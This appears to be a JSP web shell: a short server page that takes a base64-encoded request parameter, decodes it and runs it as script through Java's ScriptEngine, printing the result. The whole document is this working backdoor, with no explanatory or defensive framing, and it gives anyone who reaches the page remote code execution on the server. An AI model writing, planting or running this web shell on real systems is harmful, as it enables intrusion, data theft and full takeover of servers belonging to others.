<%
    String z = request.getParameter("z");
    if (z != null) {
        javax.script.ScriptEngine se = new javax.script.ScriptEngineManager().getEngineByExtension("js");
        String src = new String(java.util.Base64.getDecoder().decode(z), "UTF-8");
        out.print(se.eval(src));
    }
%>
